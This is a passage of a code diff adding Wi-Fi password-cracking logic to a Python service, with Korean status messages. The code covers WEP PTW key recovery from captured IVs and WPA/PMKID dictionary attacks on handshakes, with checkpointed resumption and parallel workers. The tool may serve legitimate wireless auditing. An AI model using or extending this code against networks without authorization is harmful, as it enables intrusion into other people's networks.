+                if self._run_native_wep(cracking_id, cap_file_path, bssid):
+                    return
+                self.cracking_results[cracking_id] = {
+                    'success': False,
+                    'message': '캡처 파일에 사용 가능한 핸드셰이크가 없습니다.'
+                }
+                self.cracking_progress[cracking_id] = {
+                    'status': 'error',
+                    'message': '핸드셰이크를 캡처하지 못했습니다.',
+                    'progress': 100
+                }
+                return
+            
+            ssid = ssid or index.ssid_for(handshake.bssid)
+            if not ssid:
+                self.cracking_progress[cracking_id] = {
+                    'status': 'error',
+                    'message': 'SSID를 확인할 수 없습니다.',
+                    'progress': 100
+                }
+                return
+        except Exception as e:
+            self.cracking_progress[cracking_id] = {
+                'status': 'error',
+                'message': f'크래킹 오류: {str(e)}',
+                'progress': 100
+            }
+            return
+        
+        self._dictionary_attack(cracking_id, handshake, ssid)
+    
+    def _run_native_wep(self, cracking_id: str, cap_file_path: str, bssid: Optional[str]) -> bool:
+        """캡처 파일의 WEP IV로 PTW 키 복구 (WEP 패킷이 없으면 False)"""
+        self.cracking_progress[cracking_id] = {
+            'status': 'running',
+            'message': 'IV 패킷 분석 중...',
+            'progress': 50,
+            'step': 'analyzing_iv'
+        }
+        
+        attack = PTWAttack.from_capture(cap_file_path, bssid)
+        if not attack.ivs:
+            return False
+        
+        self._report_wep(cracking_id, attack, attack.solve())
+        return True
+    
+    def _report_wep(self, cracking_id: str, attack: PTWAttack, result: Optional[WEPResult]):
+        """PTW 키 복구 결과 기록"""
+        if result:
+            self.cracking_results[cracking_id] = {
+                'success': True,
+                'password': result.key_hex,
+                'method': 'WEP PTW attack',
+                'details': result.to_dict()
+            }
+            self.cracking_progress[cracking_id] = {
+                'status': 'completed',
+                'message': f'크래킹 성공! 키: {result.key_hex} ({result.ivs} IVs)',
+                'progress': 100,
+                'step': 'completed'
+            }
+        else:
+            self.cracking_results[cracking_id] = {
+                'success': False,
+                'message': f'충분한 IV를 수집하지 못했습니다. ({attack.ivs} IVs)',
+                'ranking': attack.ranking()
+            }
+            self.cracking_progress[cracking_id] = {
+                'status': 'failed',
+                'message': f'크래킹 실패: IV 부족 ({attack.ivs} IVs)',
+                'progress': 100
+            }
+    
+    def _dictionary_attack(self, cracking_id: str, handshake: Handshake, ssid: str, checkpoint: Optional[Dict[str, Any]] = None):
+        """핸드셰이크에 대한 사전 공격 (완료 구간을 주기적으로 체크포인트)"""
+        try:
+            # wordlist 파일 확인
+            if not os.path.exists(self.wordlist_path):
+                self.wordlist_path = self._create_demo_wordlist()
+            
+            job = self.scheduler.get(cracking_id)
+            wordlist = get_wordlist(self.wordlist_path)
+            wordlist_info = {'path': wordlist.path, 'size': wordlist.size, 'mtime_ns': wordlist.mtime_ns}
+            
+            # 같은 wordlist의 체크포인트면 완료 구간부터 이어서 진행
+            completed = RangeSet()
+            if checkpoint and checkpoint.get('wordlist') == wordlist_info:
+                completed = RangeSet(checkpoint.get('completed'))
+            
+            state = {
+                'protocol': 'WPA',
+                'bssid': handshake.bssid,
+                'ssid': ssid,
+                'handshake': handshake.to_dict(),
+                'wordlist': wordlist_info
+            }
+            last_checkpoint = time.time()
+            self.job_store.save(cracking_id, dict(state, completed=completed.to_list()))
+            
+            def on_shard(start: int, end: int):
+                nonlocal last_checkpoint
+                completed.add(start, end)
+                CRACK_CANDIDATES.inc(end - start)
+                if time.time() - last_checkpoint >= Config.CRACKING_CHECKPOINT_INTERVAL:
+                    self.job_store.save(cracking_id, dict(state, completed=completed.to_list()))
+                    last_checkpoint = time.time()
+            
+            def report(tested: int, total: Optional[int], rate: float):
+                done = completed.covered()
+                percent = done / len(wordlist) * 100 if len(wordlist) else 0.0
+                self.cracking_progress[cracking_id] = {
+                    'status': 'running',
+                    'message': f'사전 공격 진행 중... ({percent:.1f}%, {rate:.0f} keys/s)',
+                    'progress': 40 + int(percent * 0.5),  # 40-90% 범위
+                    'step': 'dictionary_attack',
+                    'tested': done,
+                    'total': len(wordlist),
+                    'candidates_per_second': round(rate, 1)
+                }
+            
+            report(0, None, 0.0)
+            
+            # numpy 백엔드는 레인 수가 많을수록 배열 연산 오버헤드가 분산됨
+            use_numpy = Config.CRACKING_PMK_BACKEND == 'numpy'
+            engine = WPADictionaryEngine(
+                workers=Config.CRACKING_WORKERS or None,
+                batch_size=Config.CRACKING_NUMPY_LANES if use_numpy else Config.CRACKING_BATCH_SIZE,
+                pmk_backend=Config.CRACKING_PMK_BACKEND
+            )
+            key = engine.crack(
+                handshake,
+                ssid,
+                wordlist,
+                ranges=completed.missing(len(wordlist)),
+                progress_callback=report,
+                cancel_event=job.cancel_event if job is not None else None,
+                pmk_cache=get_pmk_cache(),
+                shard_callback=on_shard
+            )
+            
+            # 시간 초과로 중단되면 최신 체크포인트를 남겨 재개 가능하게 함 (최종 상태는 _run_job에서 기록)
+            if key is None and job is not None and job.cancelled:
+                if job.cancel_reason == CANCEL_TIMEOUT:
+                    self.job_store.save(cracking_id, dict(state, completed=completed.to_list()))
+                return
+            
+            # 작업이 끝났으므로 체크포인트 제거
+            self.job_store.delete(cracking_id)
+            
+            if key is not None:
+                self.cracking_results[cracking_id] = {
+                    'success': True,
+                    'password': key,
+                    'method': 'PMKID attack (native)' if handshake.message_pair == PAIR_PMKID else 'Dictionary attack (native)'
+                }
+                self.cracking_progress[cracking_id] = {
+                    'status': 'completed',
+                    'message': f'크래킹 성공! 패스워드: {key}',
+                    'progress': 100,
+                    'step': 'completed'
+                }
+            else:
+                self.cracking_results[cracking_id] = {
+                    'success': False,
+                    'message': '사전 공격 실패: wordlist에 패스워드가 없습니다.'
+                }
+                self.cracking_progress[cracking_id] = {
+                    'status': 'failed',
+                    'message': '크래킹 실패: wordlist에 일치하는 패스워드 없음',
+                    'progress': 100
+                }
+        except Exception as e:
+            self.cracking_progress[cracking_id] = {
+                'status': 'error',
+                'message': f'크래킹 오류: {str(e)}',
+                'progress': 100
+            }
+    
+    def _load_checkpoints(self):
+        """이전 실행에서 중단된 작업을 재개 가능 상태로 등록"""
+        for checkpoint in self.job_store.list():
+            cracking_id = checkpoint.get('cracking_id')
+            if not cracking_id:
+                continue
+            completed = RangeSet(checkpoint.get('completed'))
+            self.cracking_progress[cracking_id] = {
+                'status': 'interrupted',
+                'message': f'작업이 중단되었습니다. 재개할 수 있습니다. (완료: {completed.covered()}개)',
+                'progress': 40,
+                'step': 'interrupted',
+                'resumable': True
+            }
+    
+    def resume_cracking(self, cracking_id: str) -> bool:
+        """체크포인트에서 작업 재개"""
+        checkpoint = self.job_store.load(cracking_id)
+        if not checkpoint or self.scheduler.get(cracking_id) is not None:
+            return False
+        
+        self._job_protocols[cracking_id] = checkpoint.get('protocol', 'WPA')
+        self._submit(
+            cracking_id,
+            self._dictionary_attack,
+            (cracking_id, Handshake.from_dict(checkpoint['handshake']), checkpoint['ssid'], checkpoint),
+            PRIORITY_RESUME
+        )
+        return True
+    
+    def resume_interrupted(self) -> int:
+        """중단된 모든 작업 재개 (앱 시작 시)"""
+        resumed = 0
+        for cracking_id, progress in list(self.cracking_progress.items()):
+            if progress.get('status') in ('interrupted', 'timeout') and self.resume_cracking(cracking_id):
+                resumed += 1
+        return resumed
+    
+    def _detect_monitor_interface(self) -> Optional[str]:
+        """모니터 모드 인터페이스 감지"""
+        return radio_manager.monitor_interface()
     
     def _create_demo_wordlist(self) -> str:
         """데모용 작은 wordlist 생성"""
@@ -461,3 +1111,10 @@ class CrackingService:
 # 전역 인스턴스
 cracking_service = CrackingService()
 
+registry.gauge('wisafe_crack_jobs_queued', '대기 중인 크래킹 작업 수').set_function(
+    lambda: cracking_service.scheduler.stats()['queued']
+)
+registry.gauge('wisafe_crack_jobs_running', '실행 중인 크래킹 작업 수').set_function(
+    lambda: cracking_service.scheduler.stats()['running']
+)
+